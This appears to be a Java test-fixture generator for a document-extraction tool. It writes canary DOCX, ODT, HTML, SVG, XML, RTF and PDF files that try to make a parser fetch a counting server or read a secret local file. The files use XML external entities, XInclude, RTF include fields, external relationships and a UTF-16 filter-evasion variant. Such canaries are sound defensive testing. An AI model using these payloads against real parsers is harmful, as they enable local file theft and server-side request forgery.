package org.councilnotes.extract;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource;

/**
 * Small files of every format that ask their reader for what lies elsewhere.
 *
 * @param folder to write them into
 * @param url of a server that counts who asks it
 * @param secret address of a file whose words must not come out
 */
record CanaryFiles(Path folder, String url, String secret) {

  private static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

  /** What stands before a root element, and a text that uses it. */
  private record Lure(String name, String doctype, String use) {}

  private List<Lure> lures() {
    return List.of(
        new Lure("http", "<!DOCTYPE x [<!ENTITY e SYSTEM \"%s/e\">]>".formatted(url), "&e;"),
        new Lure("file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"%s\">]>".formatted(secret), "&e;"),
        new Lure(
            "parameter", "<!DOCTYPE x [<!ENTITY %% p SYSTEM \"%s/p\"> %%p;]>".formatted(url), "x"),
        new Lure("dtd", "<!DOCTYPE x SYSTEM \"%s/d.dtd\">".formatted(url), "x"));
  }

  /** Writes them all. */
  List<Path> write() throws IOException {
    List<Path> files = new ArrayList<>(others());
    for (Lure lure : lures()) {
      files.addAll(entities(lure));
    }
    return files;
  }

  private List<Path> entities(Lure lure) throws IOException {
    String xhtml =
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>%s</p></body></html>"
            .formatted(lure.use());
    String svg =
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>%s</text></svg>".formatted(lure.use());
    return List.of(
        put(lure.name() + "-document.docx", docx(Map.of("word/document.xml", document(lure)))),
        put(
            lure.name() + "-styles.docx",
            docx(Map.of("word/styles.xml", XML + lure.doctype() + "<s/>"))),
        put(lure.name() + "-core.docx", docx(Map.of("docProps/core.xml", core(lure)))),
        put(
            lure.name() + "-types.docx",
            docx(Map.of("[Content_Types].xml", XML + lure.doctype() + "<x/>"))),
        put(lure.name() + "-content.odt", odt(Map.of("content.xml", content(lure)))),
        put(lure.name() + "-meta.odt", odt(Map.of("meta.xml", XML + lure.doctype() + "<m/>"))),
        put(
            lure.name() + "-manifest.odt",
            odt(Map.of("META-INF/manifest.xml", XML + lure.doctype() + "<m/>"))),
        put(lure.name() + ".xhtml", XML + lure.doctype() + xhtml),
        put(lure.name() + ".html", lure.doctype() + xhtml),
        put(lure.name() + ".svg", XML + lure.doctype() + svg),
        put(lure.name() + ".xml", XML + lure.doctype() + "<x>" + lure.use() + "</x>"),
        put(lure.name() + "-utf16.xml", utf16(lure)),
        put(lure.name() + "-xmp.pdf", pdfWithMetadata(xmp(lure))),
        put(lure.name() + "-xfa.pdf", pdfWithForm(xfa(lure))));
  }

  private List<Path> others() throws IOException {
    String include =
        "<x xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include parse=\"text\" href=\"%s\"/><i:include href=\"%s/i\"/></x>"
            .formatted(secret, url);
    return List.of(
        put("include.xml", XML + include),
        put(
            "stylesheet.xml",
            "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"%s/s\"?><x>t</x>"
                .formatted(url)),
        put(
            "picture.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:l=\"http://www.w3.org/1999/xlink\"><image l:href=\"%s/i\"/></svg>"
                .formatted(url)),
        put("page.html", page()),
        put(
            "field.rtf",
            "{\\rtf1{\\*\\template %s/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE \"%s/p\"}}{\\field{\\*\\fldinst INCLUDETEXT \"%s\"}}text}"
                .formatted(url, url, secret)),
        put("template.docx", docx(Map.of("word/_rels/document.xml.rels", relationships()))),
        put("picture.odt", odt(Map.of("content.xml", content(new Lure("", "", picture()))))));
  }

  private String page() {
    return """
        <html><head><base href="%1$s/"><link rel="stylesheet" href="%1$s/a.css">
        <meta http-equiv="refresh" content="0;url=%1$s/r"><script src="%1$s/s.js"></script></head>
        <body><img src="%1$s/i"><iframe src="%2$s"></iframe><iframe src="%1$s/f"></iframe>
        <object data="%2$s"></object><embed src="%1$s/e">text</body></html>
        """
        .formatted(url, secret);
  }

  private String picture() {
    return ("<draw:frame xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
            + " xmlns:l=\"http://www.w3.org/1999/xlink\"><draw:image l:href=\"%s/i\"/></draw:frame>")
        .formatted(url);
  }

  private String relationships() {
    String one =
        "<Relationship Id=\"%s\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\" TargetMode=\"External\"/>";
    return XML
        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + one.formatted("a", "attachedTemplate", url + "/t.dotm")
        + one.formatted("b", "image", url + "/i.png")
        + one.formatted("c", "footnotes", url + "/f.xml")
        + one.formatted("d", "header", secret)
        + "</Relationships>";
  }

  private static String document(Lure lure) {
    return XML
        + lure.doctype()
        + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
            .formatted(lure.use());
  }

  private static String core(Lure lure) {
    return XML
        + lure.doctype()
        + "<c:coreProperties xmlns:c=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>%s</dc:title></c:coreProperties>"
            .formatted(lure.use());
  }

  private static String content(Lure lure) {
    return XML
        + lure.doctype()
        + "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:text><text:p>%s</text:p></office:text></office:body></office:document-content>"
            .formatted(lure.use());
  }

  /** A filter that looks for letters of one byte does not see it. */
  private static byte[] utf16(Lure lure) {
    String text = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + lure.doctype();
    return (text + "<x>" + lure.use() + "</x>").getBytes(StandardCharsets.UTF_16);
  }

  private static String xmp(Lure lure) {
    return lure.doctype()
        + "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><r:RDF xmlns:r=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><r:Description xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>%s</dc:title></r:Description></r:RDF></x:xmpmeta>"
            .formatted(lure.use());
  }

  private static String xfa(Lure lure) {
    return XML
        + lure.doctype()
        + "<d:xdp xmlns:d=\"http://ns.adobe.com/xdp/\"><template xmlns=\"http://www.xfa.org/schema/xfa-template/2.5/\"><subform><field name=\"a\"><value><text>%s</text></value></field></subform></template></d:xdp>"
            .formatted(lure.use());
  }

  private static byte[] pdfWithMetadata(String xmp) throws IOException {
    try (PDDocument document = new PDDocument()) {
      PDMetadata metadata = new PDMetadata(document);
      metadata.importXMPMetadata(xmp.getBytes(StandardCharsets.UTF_8));
      document.getDocumentCatalog().setMetadata(metadata);
      return saved(document);
    }
  }

  private static byte[] pdfWithForm(String xfa) throws IOException {
    try (PDDocument document = new PDDocument()) {
      COSStream stream = document.getDocument().createCOSStream();
      try (var out = stream.createOutputStream()) {
        out.write(xfa.getBytes(StandardCharsets.UTF_8));
      }
      PDAcroForm form = new PDAcroForm(document);
      form.setXFA(new PDXFAResource(stream));
      document.getDocumentCatalog().setAcroForm(form);
      return saved(document);
    }
  }

  private static byte[] saved(PDDocument document) throws IOException {
    document.addPage(new PDPage());
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    document.save(bytes);
    return bytes.toByteArray();
  }

  private static byte[] docx(Map<String, String> changed) throws IOException {
    Map<String, String> parts = new TreeMap<>();
    parts.put(
        "[Content_Types].xml",
        XML
            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
    parts.put(
        "_rels/.rels",
        XML
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
    parts.put(
        "word/_rels/document.xml.rels",
        XML
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/></Relationships>");
    parts.put("word/document.xml", document(new Lure("", "", "text")));
    parts.putAll(changed);
    return zip(parts);
  }

  private static byte[] odt(Map<String, String> changed) throws IOException {
    Map<String, String> parts = new LinkedHashMap<>();
    parts.put("mimetype", "application/vnd.oasis.opendocument.text");
    parts.put("content.xml", content(new Lure("", "", "text")));
    parts.putAll(changed);
    return zip(parts);
  }

  private static byte[] zip(Map<String, String> parts) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, String> part : parts.entrySet()) {
        add(zip, part.getKey(), part.getValue());
      }
    }
    return bytes.toByteArray();
  }

  private static void add(ZipOutputStream zip, String name, String text) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(text.getBytes(StandardCharsets.UTF_8));
  }

  private Path put(String name, String text) throws IOException {
    return put(name, text.getBytes(StandardCharsets.UTF_8));
  }

  private Path put(String name, byte[] bytes) throws IOException {
    return Files.write(folder.resolve(name), bytes);
  }
}
